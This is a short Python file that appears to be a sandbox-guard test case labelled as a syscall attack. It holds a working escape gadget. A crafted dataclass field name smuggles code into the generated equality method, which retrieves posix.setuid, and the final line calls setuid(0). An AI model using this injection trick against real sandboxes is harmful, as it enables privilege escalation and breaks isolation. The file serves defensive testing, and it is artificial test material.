# category: syscalls
# attack: posix.setuid(0)/setresuid via a gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "posix", "a": box,
    "__annotations__": {"a,self.a.append(setuid)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
box[0](0)
